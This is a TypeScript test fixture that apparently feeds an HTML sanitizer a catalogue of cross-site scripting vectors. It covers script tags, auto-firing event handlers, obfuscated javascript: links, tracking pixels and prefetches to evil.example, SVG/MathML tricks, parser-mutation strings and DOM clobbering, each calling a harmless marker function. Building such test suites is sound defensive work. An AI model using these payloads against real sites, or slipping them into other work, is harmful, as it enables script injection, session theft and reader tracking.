/** The elements that run by themselves as soon as they are part of a page. */
const elements = [
  '<script>ran()</script>',
  '<ScRiPt\t>ran()</sCrIpT >',
  '<script src="data:text/javascript,ran()"></script>',
  '<script type="module">ran()</script>',
  '<script>ran()',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<script/x>ran()</script/x>',
  '<script type="importmap">{"imports":{"a":"data:text/javascript,ran()"}}</script>',
  '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4="></object>',
  '<embed src="javascript:ran()">',
  '<applet code="Ran.class" archive="https://evil.example/a.jar"></applet>',
  '<frameset onload="ran()"><frame src="javascript:ran()"></frameset>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css"><link rel="prefetch" href="https://evil.example/p">',
  '<style>@import "https://evil.example/a.css"; body { display: none }</style>',
  '<bgsound src="javascript:ran()"><layer src="https://evil.example/l"></layer>',
  '<template shadowrootmode="open"><img src=x onerror=ran()></template>',
];

/** Handlers of events that come without a person's doing, or with little of it. */
const handlers = [
  '<img src=x onerror="ran()">',
  '<image src=x onerror="ran()">',
  '<img/src=x/onerror=ran()>',
  '<img src=x\nonerror\n=\n"ran()">',
  '<img src=x oneRRor=ran()//',
  '<img src=`x`onerror=ran()>',
  '<img """><img src=x onerror=ran()>">',
  '<body onload="ran()" onpageshow="ran()">',
  '<svg onload="ran()"></svg>',
  '<svg/onload=ran()>',
  '<details open ontoggle="ran()">가</details>',
  '<input autofocus onfocus="ran()">',
  '<select autofocus onfocus="ran()"><option>가</select>',
  '<textarea autofocus onfocus="ran()"></textarea>',
  '<input type="image" src="x" onerror="ran()">',
  '<p tabindex="1" id="x" onfocus="ran()" autofocus>가</p>',
  '<video onloadstart="ran()"><source onerror="ran()"></video>',
  '<audio src="x" onerror="ran()"></audio>',
  '<video poster="javascript:ran()"><track default onload="ran()" src="x"></video>',
  '<marquee onstart="ran()" loop="1">가</marquee>',
  '<p style="animation: x 1s" onanimationstart="ran()" onanimationend="ran()">가</p>',
  '<p style="transition: color 1s" ontransitionend="ran()" onscroll="ran()" onscrollend="ran()">가</p>',
  '<button popovertarget="pop">가</button><div popover id="pop" onbeforetoggle="ran()">가</div>',
  '<xss onpointerrawupdate="ran()" onmouseover="ran()" contenteditable onblur="ran()">가</xss>',
  '<b onclick=ran() onmouseenter=ran() ondragstart=ran()>눌러</b>',
  '<p is="x-ran" onconnected="ran()" slot="x" part="x" class="admin" id="app">가</p>',
];

/** Addresses that are more than addresses. */
const addresses = [
  '<a href="javascript:ran()">눌러</a>',
  '<a href="JaVaScRiPt:ran()">눌러</a>',
  '<a href=" &#14; javascript:ran()">눌러</a>',
  '<a href="java&#9;script:ran()">눌러</a>',
  '<a href="java&#10;script:ran()">눌러</a>',
  '<a href="java&#13;script&colon;ran()">눌러</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058ran()">눌러</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;ran()">눌러</a>',
  '<a href="java\u200bscript:ran()">눌러</a>',
  '<a href="java&#8203;script:ran()">눌러</a>',
  '<a href="java&shy;script:ran()">눌러</a>',
  '<a href="/&#8203;/evil.example/">눌러</a>',
  '<img src="/uploads/images/&#8203;../../graphql">',
  '<a href="\u0001javascript:ran()">눌러</a>',
  '<a href="javascript://petcare.example/%0aran()">눌러</a>',
  '<a href="data:text/html,<script>opener.ran()</script>">눌러</a>',
  '<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cmFuKCk+PC9zdmc+">눌러</a>',
  '<a href="vbscript:ran()">눌러</a>',
  '<a href="blob:https://evil.example/1">눌러</a>',
  '<a href="filesystem:https://evil.example/temporary/a">눌러</a>',
  '<a href="view-source:javascript:ran()">눌러</a>',
  '<a href="//evil.example/">눌러</a>',
  '<a href="/\\evil.example/">눌러</a>',
  '<a href="x" ping="https://evil.example/ping" download="x.exe" onclick="ran()">눌러</a>',
  '<a xlink:href="javascript:ran()" src="javascript:ran()">눌러</a>',
  '<table background="javascript:ran()"><td background="javascript:ran()">가</table>',
  '<form action="javascript:ran()"><button>눌러</button></form>',
  '<button formaction="javascript:ran()">눌러</button><input type="submit" formaction="javascript:ran()">',
  '<p style="background: url(javascript:ran()); width: expression(ran()); -moz-binding: url(https://evil.example/x#y)">가</p>',
  '<area href="javascript:ran()" shape="default"><map name="x"></map>',
];

/** Pictures of others, which would tell them who reads. */
const pictures = [
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img src="/\\evil.example/pixel.png">',
  '<img srcset="https://evil.example/pixel.png 1x">',
  '<picture><source srcset="https://evil.example/pixel.png"><img src="https://evil.example/pixel.png"></picture>',
  '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=ran()>">',
  '<img src="/uploads/images/../../graphql">',
  '<img src="/uploads/private/0b0e8f1e-8c1e-4f53-9d1e-3a2f6c3f7a11/800.webp">',
  '<img src="javascript:ran()" lowsrc="javascript:ran()" dynsrc="javascript:ran()">',
  '<p style="background: url(https://evil.example/pixel.png)">가</p>',
];

/** Foreign markup, in which other rules hold. */
const foreign = [
  '<svg><script>ran()</script></svg>',
  '<svg><script href="data:text/javascript,ran()" /></svg>',
  '<svg><animate onbegin="ran()" attributeName="x" dur="1s" /></svg>',
  '<svg><set attributeName="href" to="javascript:ran()" /><a id="x"><text>눌러</text></a></svg>',
  '<svg><a xlink:href="javascript:ran()"><text y="9">눌러</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran()</script></svg>#x" /></svg>',
  '<svg><foreignObject><iframe src="javascript:parent.ran()"></iframe></foreignObject></svg>',
  '<math href="javascript:ran()">눌러</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:ran()">눌러</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>',
  '<xml id="x"><a><b>&lt;script&gt;ran()&lt;/script&gt;</b></a></xml>',
  '<?xml-stylesheet href="javascript:ran()"?><?php ran() ?>',
];

/** Markup that one parser reads so and the next one otherwise. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<title><p title="</title><img src=x onerror=ran()>"></title>',
  '<textarea><p title="</textarea><img src=x onerror=ran()>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=ran()>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=ran()>"></noembed>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=ran() src>">',
  '<table><tr><td><select><svg><style><img src=x onerror=ran()></style></svg></select></table>',
  '<option><style></option></select><img src=x onerror=ran()></style>',
  '<b><i><u><<img src=x onerror=ran()>//',
  '<!--><img src=x onerror=ran()>-->',
  '<!-- --!><img src=x onerror=ran()> -->',
  '<!--[if gte IE 4]><script>ran()</script><![endif]-->',
  '<![CDATA[><img src=x onerror=ran()>]]>',
  '</p><</p><img src=x onerror=ran()>',
  '<img alt="<x" title="/><img src=x onerror=ran()>">',
  '<a href="https://petcare.example/?a="onmouseover=ran() b="">눌러</a>',
  '"><img src=x onerror=ran()><p class="',
  "'-ran()-'<img alt='`' title='` onerror=ran()'>",
  '&lt;script&gt;ran()&lt;/script&gt; %3Cscript%3Eran()%3C/script%3E \\u003cscript\\u003eran()',
  '+ADw-script+AD4-ran()+ADw-/script+AD4-',
  '\uff1cscript\uff1eran()\uff1c/script\uff1e',
  '<script\u000c>ran()</script>',
];

/** Names that would stand in the way of the page's own, and what other languages run. */
const others = [
  '<form id="app"><input name="attributes"><input name="parentNode"></form>',
  '<img name="getElementById"><a id="__petcare" href="https://evil.example/">가</a>',
  '<a id="petcare"><a id="petcare" name="url" href="cid:ran()">가</a>',
  '{{constructor.constructor("ran()")()}} ${ran()} <%= ran() %> #{ran()}',
  '[눌러](javascript:ran()) ![가](https://evil.example/pixel.png)',
];

/** Of the classes that the cheat sheets list; each calls `ran` with its own number. */
export const vectors: readonly string[] = [...[elements, handlers, addresses, pictures, foreign, mutations, others].flat()].map(
  (vector, index) => vector.replaceAll('ran()', `ran(${index})`),
);

/** All of them in texts of no more than so many letters. */
export function inTexts(most: number): string[] {
  const texts: string[] = [];
  let text = '';
  for (const vector of vectors) {
    if (text.length + vector.length + 1 > most) {
      texts.push(text);
      text = '';
    }
    text += `${vector}\n`;
  }
  return [...texts, text];
}
